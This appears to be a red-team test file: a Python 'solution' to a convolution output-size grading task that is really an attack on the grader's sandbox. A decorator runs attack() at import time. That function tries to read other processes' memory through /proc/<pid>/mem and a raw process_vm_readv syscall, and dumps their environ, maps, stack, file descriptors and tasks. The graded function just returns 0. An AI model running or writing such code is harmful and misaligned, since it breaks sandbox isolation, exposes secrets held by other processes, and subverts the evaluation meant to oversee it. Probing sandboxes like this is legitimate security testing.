# Goal: read the fork server's memory, descriptors and environment, at addresses that we know since we are its copy.
# Target: convolution/conv_output_size
# Ends: WRONG value
# Win: a byte of memory, map, environment or descriptors of another process.
# Control: wins without a sandbox, as root

import sys

os, ctypes = __import__("os"), __import__("ctypes")
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
READ = 310 if "x86_64" in sys.implementation._multiarch else 270
OLD = sys.modules["autograder.codec"]


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def memory(process):
    with open(f"/proc/{process}/mem", "rb", buffering=0) as file:
        return os.pread(file.fileno(), 64, id(OLD))


def call(process):
    data = ctypes.create_string_buffer(64)
    local, remote = Part(ctypes.addressof(data), 64), Part(id(OLD), 64)
    if libc.syscall(READ, process, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) <= 0:
        raise OSError("refused")
    return data.raw


def content(name):
    return lambda process: open(f"/proc/{process}/{name}", "rb").read()


def names(name):
    return lambda process: [os.readlink(f"/proc/{process}/{name}/{entry}") for entry in os.listdir(f"/proc/{process}/{name}")]


WAYS = [memory, call, *map(content, ("maps", "environ", "auxv", "smaps", "syscall", "stack")), *map(names, ("fd", "map_files", "task"))]


def attack():
    near = os.getppid()
    for process in {1, 2, 3, *range(max(1, near - 3), near + 4)} - {os.getpid()}:
        for way in WAYS:
            try:
                print("W" "ON:", process, way, repr(way(process))[:200])
            except OSError:
                pass


@lambda function: attack() or function
def conv_output_size(n, f, stride=1, padding=0, dilation=1):
    return 0
